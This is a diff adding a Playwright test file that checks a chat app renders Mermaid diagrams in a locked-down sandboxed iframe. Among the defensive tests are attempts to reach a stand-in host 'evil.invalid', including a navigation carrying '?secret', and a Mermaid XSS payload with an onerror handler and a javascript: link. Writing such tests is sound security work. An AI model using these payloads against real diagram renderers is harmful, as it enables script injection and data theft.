@@ -1,0 +1,177 @@
+// Diagrams: drawn on demand, in a frame that can do nothing else.
+import type { Frame, Page } from '@playwright/test';
+import { expect, test } from '../support/house';
+
+const FLOW = 'graph TD\nA[Spring] --> B[Brook]\nB --> C[River]';
+
+/** A frame as the page makes it, put there by hand; its messages are kept. */
+async function framed(page: Page, url: string): Promise<Frame> {
+  await page.goto(url);
+  await page.evaluate(() => {
+    const told: unknown[] = [];
+    Object.assign(window, { told });
+    const frame = document.createElement('iframe');
+    for (const [name, value] of [['sandbox', 'allow-scripts'], ['src', '/diagram'], ['title', 'Diagram']]) {
+      frame.setAttribute(name, value);
+    }
+    frame.style.width = '600px';
+    addEventListener('message', (event) => {
+      if (event.source === frame.contentWindow) told.push(event.data);
+    });
+    document.body.append(frame);
+  });
+  await expect.poll(() => told(page)).toContainEqual(true);
+  return page.frames().find((frame) => frame.url().endsWith('/diagram'))!;
+}
+
+const told = (page: Page) => page.evaluate(() => (window as unknown as { told: unknown[] }).told);
+
+const ask = (page: Page, source: string, dark = false) =>
+  page.evaluate(
+    (order) => document.querySelector<HTMLIFrameElement>('iframe[title=Diagram]')!.contentWindow!.postMessage(order, '*'),
+    [source, dark],
+  );
+
+test.describe('the frame', () => {
+  test('draws, and tells its height', async ({ page, brooklet }) => {
+    const frame = await framed(page, brooklet.url);
+    await ask(page, FLOW);
+    await expect.poll(async () => (await told(page)).find((it) => typeof it === 'number')).toBeGreaterThan(100);
+    await expect(frame.locator('svg')).toContainText('Brook');
+  });
+
+  for (const [kind, source] of Object.entries({
+    sequence: 'sequenceDiagram\nAlice->>Bob: Hello\nBob-->>Alice: Hi',
+    class: 'classDiagram\nAnimal <|-- Duck\nAnimal : +int age',
+    state: 'stateDiagram-v2\n[*] --> Still\nStill --> [*]',
+    relations: 'erDiagram\nCUSTOMER ||--o{ ORDER : places',
+    gantt: 'gantt\ndateFormat YYYY-MM-DD\nsection A\nOne :a1, 2026-01-01, 3d',
+    pie: 'pie title Pets\n"Dogs" : 3\n"Cats" : 2',
+  })) {
+    test(`draws: ${kind}`, async ({ page, brooklet }) => {
+      const frame = await framed(page, brooklet.url);
+      await ask(page, source, true);
+      await expect(frame.locator('svg').first()).toBeVisible();
+      await expect.poll(async () => (await told(page)).some((it) => typeof it === 'number')).toBe(true);
+    });
+  }
+
+  test('says why there is nothing to see', async ({ page, brooklet }) => {
+    await framed(page, brooklet.url);
+    await ask(page, 'this is no diagram');
+    await expect.poll(() => told(page)).toContainEqual(expect.stringMatching(/No diagram type/));
+  });
+
+  test.describe('on its own', () => {
+    test.use({ complaints: /Content Security Policy|frame|sandbox|evil\.invalid|Refused|violates/i });
+
+    test('has no origin, and no way out', async ({ page, brooklet }) => {
+      const frame = await framed(page, brooklet.url);
+      const asked: string[] = [];
+      page.on('request', (request) => asked.push(request.url()));
+      const outcomes = await frame.evaluate(async (url) => {
+        const refused = async (act: () => unknown) => {
+          try {
+            await act();
+            return 'done';
+          } catch {
+            return 'refused';
+          }
+        };
+        const loads = (tag: string, name: string, to: string) =>
+          new Promise<string>((resolve) => {
+            const element = document.createElement(tag);
+            element.onload = () => resolve('done');
+            element.onerror = () => resolve('refused');
+            element.setAttribute(name, to);
+            document.body.append(element);
+            setTimeout(() => resolve('refused'), 500);
+          });
+        return {
+          place: self.origin,
+          page: await refused(() => parent.document.title),
+          storage: await refused(() => localStorage.length),
+          fetch: await refused(() => fetch(`${url}/api/models`)),
+          elsewhere: await refused(() => fetch('https://evil.invalid/')),
+          evaluation: await refused(() => new Function('return 1')()),
+          script: await loads('script', 'src', `${url}/pkg/brooklet.js`),
+          image: await loads('img', 'src', `${url}/favicon.svg`),
+          style: await loads('link', 'href', `${url}/pkg/brooklet.css`),
+          socket: await refused(
+            () =>
+              new Promise<void>((resolve, reject) => {
+                const socket = new WebSocket(url.replace('http', 'ws'));
+                socket.onopen = () => resolve();
+                socket.onerror = () => reject(new Error('no'));
+              }),
+          ),
+          window: open('https://evil.invalid/') ? 'done' : 'refused',
+        };
+      }, brooklet.url);
+      const { place, ...rest } = outcomes;
+      expect(place).toBe('null');
+      expect(Object.entries(rest).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
+      // Nor can it go somewhere else and take something along.
+      await frame.evaluate(() => void setTimeout(() => (location.href = 'https://evil.invalid/?secret')));
+      await page.waitForTimeout(300);
+      expect(asked.filter((url) => !url.includes('/api/'))).toEqual([]);
+      expect(new URL(page.url()).origin).toBe(new URL(brooklet.url).origin);
+    });
+
+    test('draws nothing that runs', async ({ page, brooklet }) => {
+      const frame = await framed(page, brooklet.url);
+      await ask(
+        page,
+        `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%
+graph TD
+A["<img src=x onerror=alert(1)>"] --> B["<b>bold</b>"]
+click A href "javascript:alert(1)"
+click B href "https://evil.invalid/" _top`,
+      );
+      await expect.poll(async () => (await told(page)).length).toBeGreaterThan(1);
+      const found = await frame.evaluate(() => ({
+        handlers: [...document.querySelectorAll('body *')].flatMap((element) =>
+          [...element.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
+        ),
+        scripts: document.querySelectorAll('svg script, svg iframe, svg object, svg embed').length,
+        links: [...document.querySelectorAll('a')].map((link) => link.getAttribute('xlink:href') ?? link.getAttribute('href') ?? ''),
+      }));
+      expect(found.handlers).toEqual([]);
+      expect(found.scripts).toBe(0);
+      expect(found.links.filter((link) => /script:/i.test(link))).toEqual([]);
+    });
+  });
+});
+
+test.describe('in an answer', () => {
+  test.use({ model: 'sim:text=echo,rate=4000' });
+
+  test('nothing is loaded before it is asked for; then it is drawn, and its source comes back', async ({ chat, page }) => {
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(new URL(request.url()).pathname));
+    await chat.ask(`\`\`\`mermaid\n${FLOW}\n\`\`\``);
+    await chat.ended();
+    const figure = chat.answers.last().locator('figure.code');
+    await expect(figure.locator('pre')).toContainText('Brook');
+    expect(asked.filter((path) => path.startsWith('/diagram'))).toEqual([]);
+    await figure.getByRole('button', { name: 'Draw' }).click();
+    const frame = figure.frameLocator('iframe[title=Diagram]');
+    await expect(frame.locator('svg')).toContainText('Brook');
+    await expect(figure.locator('pre')).toBeHidden();
+    const box = await figure.locator('iframe').boundingBox();
+    expect(box!.height).toBeGreaterThan(100);
+    await figure.getByRole('button', { name: 'Source' }).click();
+    await expect(figure.locator('pre')).toBeVisible();
+    await expect(figure.locator('iframe')).toHaveCount(0);
+  });
+
+  test('what is no diagram stays its source, with a sentence', async ({ chat }) => {
+    await chat.ask('```mermaid\nthis is no diagram\n```');
+    await chat.ended();
+    const figure = chat.answers.last().locator('figure.code');
+    await figure.getByRole('button', { name: 'Draw' }).click();
+    await expect(figure.getByText('The diagram could not be drawn:')).toBeVisible();
+    await expect(figure.locator('pre')).toBeVisible();
+    await expect(figure.locator('iframe')).toHaveCount(0);
+  });
+});
